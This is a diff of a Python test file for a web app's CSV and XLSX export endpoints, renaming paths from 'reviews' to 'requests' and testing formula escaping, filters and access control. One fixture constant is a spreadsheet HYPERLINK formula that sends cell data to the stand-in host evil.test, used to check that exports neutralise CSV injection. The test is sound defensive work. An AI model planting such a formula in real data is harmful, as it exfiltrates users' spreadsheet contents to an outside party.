@@ -19,7 +19,7 @@ from tests.factories.requests import allocate_budget
 
 Api = Callable[[User | None], APIClient]
 FORMULA = '=HYPERLINK("https://evil.test/?"&A1)'
-LISTS = ("reviews.{}", "audit.{}", "budgets/search/{quarter}/USD/ledger.{}")
+LISTS = ("requests.{}", "audit.{}", "budgets/search/{quarter}/USD/ledger.{}")
 PAGES = ("/requests.{}", "/audit.{}", "/budgets/search/{quarter}/USD/ledger.{}")
 
 
@@ -48,18 +48,18 @@ def test_a_program_gets_the_file_of_the_page(address: str, page: str, cast: Cast
 
 
 def test_a_title_is_no_formula_there_either(cast: Cast, api: Api, quarter: str) -> None:
-    text = api(cast.author).get("/api/v1/reviews.csv").content.decode("utf-8-sig")
+    text = api(cast.author).get("/api/v1/requests.csv").content.decode("utf-8-sig")
     assert ",\"'=HYPERLINK(" in text
-    sheet = load_workbook(io.BytesIO(api(cast.author).get("/api/v1/reviews.xlsx").content)).active
+    sheet = load_workbook(io.BytesIO(api(cast.author).get("/api/v1/requests.xlsx").content)).active
     assert (sheet["B2"].value, sheet["B2"].data_type) == (f"'{FORMULA}", "s")
 
 
 def test_filters_and_readers_narrow_it(decided: ReviewRequest, cast: Cast, api: Api) -> None:
     def rows(user: User, query: str = "") -> int:
-        return api(user).get(f"/api/v1/reviews.csv{query}").content.count(b"\r\n") - 1
+        return api(user).get(f"/api/v1/requests.csv{query}").content.count(b"\r\n") - 1
 
     assert (rows(cast.author), rows(cast.author, "?state=draft"), rows(cast.outsider)) == (1, 0, 0)
-    unknown = api(cast.author).get("/api/v1/reviews.csv?color=red")
+    unknown = api(cast.author).get("/api/v1/requests.csv?color=red")
     assert (unknown.status_code, unknown["Content-Type"]) == (400, "application/problem+json")
 
 
@@ -72,4 +72,4 @@ def test_other_kinds_are_not_there(address: str, cast: Cast, api: Api, quarter: 
 def test_who_may_not_read_takes_nothing_away(cast: Cast, api: Api, quarter: str) -> None:
     assert api(cast.author).get("/api/v1/audit.csv").status_code == 403
     assert api(cast.outsider).get(f"/api/v1/budgets/search/{quarter}/USD/ledger.csv").status_code == 404
-    assert api(None).get("/api/v1/reviews.csv").status_code == 401
+    assert api(None).get("/api/v1/requests.csv").status_code == 401
